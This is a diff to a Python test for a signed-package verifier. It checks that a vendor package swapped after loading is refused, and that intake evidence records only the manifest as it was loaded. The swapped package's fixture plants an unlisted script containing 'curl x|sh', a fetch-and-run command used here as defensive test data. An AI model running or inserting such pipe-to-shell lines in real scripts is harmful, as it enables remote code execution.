@@ -608,20 +608,42 @@ def test_a_package_replaced_after_it_was_loaded_is_refused(
     """The vendor's signed package, swapped (a drop directory the vendor can still
     write to) for the same package with a file its manifest does not list, after
     its listing and metadata were read: its listed files would all match, the
-    unlisted one would go unseen. The package is verified as one snapshot."""
+    unlisted one would go unseen. The package is verified as one snapshot; intake
+    records the refusal with what was loaded (the manifest read and the listing),
+    not the file that replaced it."""
     package = build(tmp_path, vendor)
+    loaded_mf = zipfile.ZipFile(package).read("main.mf")
     pol = policy(tmp_path, vendor.base / "root.pem")
     swapped = build(
         tmp_path, vendor, name="swapped.csar", extra={"Scripts/run.sh": b"curl x|sh"}
     )
+    assert zipfile.ZipFile(swapped).read("main.mf") != loaded_mf  # signed anew
     code, report = verify_json(swapped, pol)  # on its own: an unlisted file
     assert code == ExitCode.VERIFICATION_FAILED
     assert "unlisted-files" in failed(report)
-    _between_load_and_measure(monkeypatch, swapped.replace)
+
+    def swap(path: Path) -> None:
+        new = path.with_suffix(".new")
+        new.write_bytes(swapped.read_bytes())
+        new.replace(path)
+
+    _between_load_and_measure(monkeypatch, swap)
     result = invoke("verify", package, "--policy", pol, "--at", AT)
     assert_error(
         result, ExitCode.INVALID_INPUT, "acme.csar", "changed after it was loaded"
     )
+    package = build(tmp_path, vendor)
+    loaded_mf = zipfile.ZipFile(package).read("main.mf")
+    store = tmp_path / "evidence.db"
+    result = invoke(
+        "intake", package, "--policy", pol, "--operator-key", OP_KEY,
+        "--store", store, "--at", AT,
+    )  # fmt: skip
+    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
+    shown = json.loads(invoke("evidence", "show", "1", "--store", store).stdout)
+    predicate = shown["statement"]["predicate"]["vendorproof"]
+    assert predicate["inputs"]["main.mf"] == hashlib.sha256(loaded_mf).hexdigest()
+    assert "Scripts/run.sh" not in predicate["delivery"]["listing"]["payload"]
 
 
 def test_a_package_written_to_after_it_was_loaded_is_refused(
